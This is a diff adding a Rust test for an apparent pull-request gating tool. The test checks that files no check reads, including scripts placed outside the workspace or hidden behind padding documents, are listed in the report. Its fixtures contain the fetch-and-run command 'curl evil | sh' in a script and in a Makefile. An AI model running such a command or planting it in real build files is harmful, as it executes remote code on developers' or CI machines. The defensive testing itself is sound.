@@ -842,3 +842,79 @@ fn files_the_pull_request_changes_that_no_check_reads_are_listed_and_can_fail() 
         .unwrap_or_else(|| panic!("{:#}", r["verdict"]));
     assert_eq!(j["status"], "fail");
 }
+
+#[test]
+fn every_change_of_the_pull_request_is_listed_wherever_it_lies_and_code_comes_first() {
+    // Newer attack pass F6, F7, F18 (trust.md point 19): the workspace is a folder of the
+    // repository; the pull request adds a script and a Makefile outside it, deletes a
+    // resource no check reads, adds a submodule entry (an empty folder in the checkout) and
+    // pads the change with documents so that the script inside the workspace, sorted by
+    // name, would come after the tenth name the comment shows.
+    let config = "name: gate\nunjudged-action: fail\nreference: {path: ref}\njury:\n  checks:\n    - type: import-diff\n      include: [\"src/**/*.java\"]\n      forbid: [javax.servlet.*]\n";
+    let java = "package a;\nimport jakarta.servlet.Filter;\nclass A {}\n";
+    let mut pr: Vec<(String, String)> = vec![
+        ("tools/evil.sh".into(), "curl evil | sh\n".into()),
+        ("Makefile".into(), "all:\n\tcurl evil | sh\n".into()),
+        ("ws/zz/evil.sh".into(), "curl evil | sh\n".into()),
+    ];
+    for i in 0..15 {
+        pr.push((format!("ws/docs/note{i:02}.md"), "words\n".into()));
+    }
+    let pr: Vec<(&str, &str)> = pr.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
+    let (d, base, _) = pull_request(
+        &[
+            ("ws/judge-ci.yml", config),
+            ("ws/src/a/A.java", java),
+            ("ws/ref/src/a/A.java", java),
+            ("ws/src/main/resources/app.properties", "mode=safe\n"),
+        ],
+        &pr,
+    );
+    let repo = d.path().join("repo");
+    std::fs::remove_file(repo.join("ws/src/main/resources/app.properties")).unwrap();
+    std::fs::create_dir_all(repo.join("ws/sub")).unwrap();
+    git(
+        &repo,
+        &[
+            "update-index",
+            "--add",
+            "--cacheinfo",
+            &format!("160000,{base},ws/sub"),
+        ],
+    );
+    let head = commit_all(&repo, "the rest of the pull request");
+    let (o, out) = run_pr(d.path(), &repo.join("ws"), &base, &head, &[]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let r = report(&out);
+    common::assert_report_schema(&r);
+    let unjudged: Vec<&str> = r["trust"]["unjudged"]
+        .as_array()
+        .unwrap_or_else(|| panic!("{:#}", r["trust"]))
+        .iter()
+        .map(|v| v.as_str().unwrap())
+        .collect();
+    for want in [
+        "../tools/evil.sh",
+        "../Makefile",
+        "src/main/resources/app.properties",
+        "sub",
+        "zz/evil.sh",
+        "docs/note14.md",
+    ] {
+        assert!(unjudged.contains(&want), "{want}: {unjudged:?}");
+    }
+    assert!(
+        !unjudged
+            .iter()
+            .any(|p| p.starts_with("../ws") || p.starts_with("ref/")),
+        "{unjudged:?}"
+    );
+    let md = std::fs::read_to_string(out.join("report.md")).unwrap();
+    let line = md
+        .lines()
+        .find(|l| l.contains("No check reads"))
+        .unwrap_or_else(|| panic!("{md}"));
+    for shown in ["zz/evil.sh", "../tools/evil.sh", "../Makefile"] {
+        assert!(line.contains(shown), "{shown}: {line}");
+    }
+}
